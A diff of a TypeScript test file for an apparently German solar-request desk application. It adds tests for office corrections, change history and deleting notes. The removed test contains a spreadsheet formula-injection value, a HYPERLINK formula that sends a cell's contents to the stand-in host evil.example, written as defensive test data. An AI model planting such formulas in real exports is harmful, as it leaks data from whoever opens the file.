@@ -5,11 +5,14 @@ import {
   stromverbrauch,
   zeitrahmen,
 } from '@rebhang-solar/content/choices';
-import { parse } from 'csv-parse/sync';
+import { validationMessages } from '@rebhang-solar/content/forms/validation';
 import { expect, vi } from 'vitest';
+import { rowNames } from '../../forms/request-tables.ts';
 import { storeInvented } from '../../operator/seed/store-invented.ts';
+import { deadMailQueueName } from '../../requests/mails/mail-job.ts';
 import { addRemark } from '../../requests/own-page/add-remark.ts';
 import { correct } from '../../requests/own-page/correct.ts';
+import { tryDigits } from '../../requests/own-page/second-fact.ts';
 import { Photograph } from '../../requests/photographs/photograph.entity.ts';
 import { RequestEvent } from '../../requests/request-event.entity.ts';
 import { RequestStatus } from '../../requests/request-status.entity.ts';
@@ -44,6 +47,12 @@ const listed = async (desk: Desk, view: RequestView) =>
 async function seen(desk: Desk, reference: string) {
   const { version } = await desk.anna.requests.get({ reference });
   return { reference, version };
+}
+
+/** What the office downloads of a request. */
+async function csvOf(desk: Desk, reference: string): Promise<string> {
+  const { base64 } = await desk.anna.requests.csv({ reference });
+  return Buffer.from(base64, 'base64').toString();
 }
 
 test('the open ones stand by the next moment that counts, those without one behind, the oldest first', async ({
@@ -284,32 +293,17 @@ test('a request is shown whole: blocks, promise, history, the same person, text 
     name: 'haustyp',
     label: 'Haustyp',
     value: 'Einfamilienhaus',
+    stored: 'einfamilienhaus',
     kind: 'choice',
   });
   expect(details.text).toMatch(/^Beratungsanfrage PV-/);
   expect(details.text).toContain('\nHaustyp: Einfamilienhaus\n');
-  expect(parse(details.row, { delimiter: '\t' })[0]).toContain('Einfamilienhaus');
-  expect(details.row).not.toContain('\n');
   // A note is no change: whoever has the request open may go on.
   expect(details.version).toBe(1);
   await database.query('delete from handling_events');
   await expect(desk.anna.requests.get({ reference: 'PV-0000-0000-0000' })).rejects.toMatchObject({
     code: 'NOT_FOUND',
   });
-});
-
-test('a row for a spreadsheet stays the cells that it is made of, whatever was typed', async ({
-  desk,
-}) => {
-  const typed = {
-    name: '"=HYPERLINK(""https://evil.example/?""&A1;""OK"")"',
-    message: '"Anna\tund\nJens',
-  };
-  const reference = await contact(desk, 0, typed);
-  const { row } = await desk.anna.requests.get({ reference });
-  const cells = [reference, `'${typed.name}`, '"Anna und Jens'];
-  expect(parse(row, { delimiter: '\t' })).toEqual([expect.arrayContaining(cells)]);
-  expect(row).not.toContain('\n');
 });
 
 test('what a visitor adds stands at the desk, and the list says what is new since somebody was there', async ({
@@ -368,7 +362,7 @@ test('what a visitor adds stands at the desk, and the list says what is new sinc
     ['Anna Vogel', 'done', null],
     ['', 'remark', 'Die Rechnung suche ich noch heraus.'],
   ]);
-  expect(details.row).toContain('Absender: Bitte erst ab 13 Uhr.');
+  expect(await csvOf(desk, reference)).toContain('Absender: Bitte erst ab 13 Uhr.');
   // Also by the number that it had before.
   const { requests } = await desk.anna.requests.search({ search: consultationPayload.phone });
   expect(requests.map((one) => one.reference)).toEqual([reference]);
@@ -413,12 +407,83 @@ test('birth dates of a grid registration stand at the desk, in its papers and in
   expect(await valuesIn(await readPdf(bytes(form)))).toMatchObject({ geburtsdatum: '28.02.1971' });
   expect(await textIn(await readPdf(bytes(powerOfAttorneyPdf)))).toContain('28.02.1971');
   expect(powerOfAttorneyWord.name).toBe(`Vollmacht-${reference}.docx`);
-  const csv = await desk.anna.requests.csv({ reference });
-  expect(Buffer.from(csv.base64, 'base64').toString()).toContain('"28.02.1971"');
+  expect(await csvOf(desk, reference)).toContain('"28.02.1971"');
   const other = await contact(desk, 1);
   await expect(desk.anna.requests.documents({ reference: other })).rejects.toMatchObject({
     code: 'NOT_FOUND',
   });
+});
+
+test('the office corrects what was typed: only what it changes is checked, and what was there before stays', async ({
+  desk,
+  database,
+}) => {
+  const reference = await consultation(desk, 1);
+  const { id } = await desk.orm.em.fork().findOneOrFail(Submission, { reference });
+  // Stored before today's rule for names.
+  await database.query(`update contact_messages set name = ''`);
+  const change = async (fields: Record<string, string>) =>
+    desk.anna.requests.correct({ ...(await seen(desk, reference)), fields });
+  await expect(change({ phone: '', haustyp: 'schloss' })).rejects.toMatchObject({
+    cause: { fieldErrors: { phone: validationMessages.required } },
+  });
+  const { length: before } = (await desk.anna.requests.get({ reference })).history;
+  expect(before).toBe(0);
+
+  await change({ phone: '0171 39200 24', haustyp: 'reihenhaus', email: 'neu@beispiel.example' });
+  const details = await desk.jens.requests.get({ reference });
+  expect(details).toMatchObject({ phone: '0171 39200 24', news: [] });
+  expect(details.history.map(({ by, field, formerValue }) => [by, field, formerValue])).toEqual([
+    ['Anna Vogel', 'email', consultationPayload.email],
+    ['Anna Vogel', 'phone', consultationPayload.phone],
+    ['Anna Vogel', 'haustyp', 'Einfamilienhaus'],
+  ]);
+  // The number that the office has heard opens the page from now on, and the search finds both.
+  const submission = await desk.orm.em
+    .fork()
+    .findOneOrFail(Submission, { reference }, { populate: rowNames });
+  const digits = (typed: string) =>
+    tryDigits(desk.orm.em.fork(), { submission }, '192.0.2.1', typed);
+  expect([await digits(consultationPayload.phone), await digits('0024')]).toEqual([
+    'wrong',
+    'right',
+  ]);
+  for (const search of [consultationPayload.phone, '0171 39200 24', 'neu@beispiel.example']) {
+    const { requests } = await desk.anna.requests.search({ search });
+    expect(
+      requests.map((one) => one.reference),
+      search,
+    ).toEqual([reference]);
+  }
+  const told = () =>
+    database.query(
+      `select data->'notice'->>'address' as address, data->'notice'->'fields' as fields
+       from pgboss.job where data->'notice'->>'about' = 'corrected'`,
+    );
+  expect(await told()).toEqual([
+    { address: consultationPayload.email, fields: ['phone', 'email'] },
+  ]);
+  // Of an address to which no mail could be brought nobody reads what is sent there.
+  await desk.boss.insert(deadMailQueueName, [{ data: { recipient: 'visitor', submissionId: id } }]);
+  await change({ email: 'dritte@beispiel.example' });
+  expect(await told()).toHaveLength(1);
+});
+
+test('a note of one’s own can be emptied on its day, and that there was one stays', async ({
+  desk,
+  database,
+}) => {
+  const reference = await contact(desk, 1);
+  await desk.anna.requests.note({ reference, note: 'Gehört zu einem anderen.' });
+  const note = async () => (await desk.anna.requests.get({ reference })).history[0];
+  const id = (await note())?.id ?? 0;
+  const gone = { code: 'NOT_FOUND' };
+  await expect(desk.jens.requests.forgetNote({ reference, id })).rejects.toMatchObject(gone);
+  await database.query(`update handling_events set at = at - interval '1 day'`);
+  await expect(desk.anna.requests.forgetNote({ reference, id })).rejects.toMatchObject(gone);
+  await database.query(`update handling_events set at = now()`);
+  await desk.anna.requests.forgetNote({ reference, id });
+  expect(await note()).toMatchObject({ by: 'Anna Vogel', type: 'note', note: null });
 });
 
 test('a day of a request: taken, missed, appointment, waiting, done, and who did what', async ({
